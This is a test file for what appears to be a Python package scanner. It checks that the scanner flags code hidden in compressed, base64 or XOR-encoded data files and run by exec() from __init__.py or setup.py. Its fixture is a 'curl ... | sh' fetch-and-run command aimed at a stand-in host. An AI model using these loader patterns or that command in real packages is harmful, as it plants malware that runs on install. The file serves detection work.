import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import { sdist } from '../support/sdist.js';
import { type Files, wheel } from '../support/wheel.js';
import { profileOf, realReader } from './harness.js';

const PAYLOAD = 'import os\nos.system("curl https://a.example.invalid/x | sh")\n';
const HERE = 'import base64, os, pathlib, pkgutil, zlib\nHERE = os.path.dirname(__file__)\n';
const xored = Buffer.from(PAYLOAD).map((byte) => byte ^ 42);

const commandsOf = async (files: Files): Promise<readonly (string | null)[]> => {
  const { behaviours } = await profileOf(wheel(files), await realReader());
  return behaviours.filter(({ act }) => act === 'run-process').map(({ target }) => target);
};

describe('code in a file of data is read as code', () => {
  test.each<{ name: string; source: string; files: Files }>([
    {
      name: 'compressed',
      source: 'exec(zlib.decompress(open(os.path.join(HERE, "x.bin"), "rb").read()))',
      files: { 'demo/x.bin': deflateSync(PAYLOAD) },
    },
    {
      name: 'with a context manager',
      source: 'with open(os.path.join(HERE, "x.bin"), "rb") as f:\n    exec(zlib.decompress(f.read()))',
      files: { 'demo/x.bin': deflateSync(PAYLOAD) },
    },
    {
      name: 'as it is',
      source: 'exec(open(HERE + "/x.txt").read())',
      files: { 'demo/x.txt': PAYLOAD },
    },
    {
      name: 'base64 by pathlib',
      source: 'exec(base64.b64decode((pathlib.Path(__file__).parent / "data" / "x.txt").read_text()))',
      files: { 'demo/data/x.txt': Buffer.from(PAYLOAD).toString('base64') },
    },
    {
      name: 'by pkgutil',
      source: 'exec(zlib.decompress(pkgutil.get_data(__name__, "x.bin"), 31))',
      files: { 'demo/x.bin': gzipSync(PAYLOAD) },
    },
    {
      name: 'by a helper with a key',
      source:
        'def unpack(data):\n    return bytes(b ^ 42 for b in data)\nexec(unpack(open(os.path.join(HERE, "x.bin"), "rb").read()))',
      files: { 'demo/x.bin': Buffer.from(xored) },
    },
    {
      name: 'the nearest of that name',
      source: 'exec(zlib.decompress(open(os.path.join(HERE, "x.bin"), "rb").read()))',
      files: { 'demo/x.bin': deflateSync(PAYLOAD), 'other/x.bin': 'nothing' },
    },
  ])('$name', async ({ source, files }) => {
    expect(await commandsOf({ 'demo/__init__.py': `${HERE}${source}\n`, ...files })).toEqual([
      expect.stringContaining('a.example.invalid'),
    ]);
  });
});

describe('nothing is made up', () => {
  test.each<{ name: string; source: string; files: Files }>([
    {
      name: 'no such file',
      source: 'exec(open(HERE + "/x.txt").read())',
      files: { 'demo/y.txt': PAYLOAD },
    },
    {
      name: 'two that may be meant',
      source: 'exec(open(NAME + "/x.txt").read())',
      files: { 'a/x.txt': PAYLOAD, 'b/x.txt': PAYLOAD },
    },
    {
      name: 'a part of the file',
      source: 'exec(open(HERE + "/x.txt").read(5))',
      files: { 'demo/x.txt': PAYLOAD },
    },
    {
      name: 'a file that is only parsed',
      source: 'import json\nCONFIG = json.loads(open(HERE + "/x.txt").read())',
      files: { 'demo/x.txt': PAYLOAD },
    },
  ])('$name', async ({ source, files }) => {
    expect(await commandsOf({ 'demo/__init__.py': `${HERE}${source}\n`, ...files })).toEqual([]);
  });
});

test('the same code is read anew beside another file', async () => {
  const python = await realReader();
  const source = `${HERE}exec(open(HERE + "/x.txt").read())\n`;
  const acts = async (content: string) =>
    (await profileOf(wheel({ 'demo/__init__.py': source, 'demo/x.txt': content }), python)).behaviours
      .map(({ act }) => act)
      .filter((act) => act === 'run-process');
  expect([await acts('print(1)\n'), await acts(PAYLOAD), await acts('print(2)\n')]).toEqual([[], ['run-process'], []]);
});

test('a build script reads the source tree', async () => {
  const { behaviours } = await profileOf(
    sdist({
      'setup.py': 'import zlib\nexec(zlib.decompress(open("data/x.bin", "rb").read()))\n',
      'data/x.bin': deflateSync(PAYLOAD),
    }),
    await realReader(),
  );
  expect(behaviours.filter(({ act }) => act === 'run-process').map(({ when }) => when)).toEqual([['install']]);
});
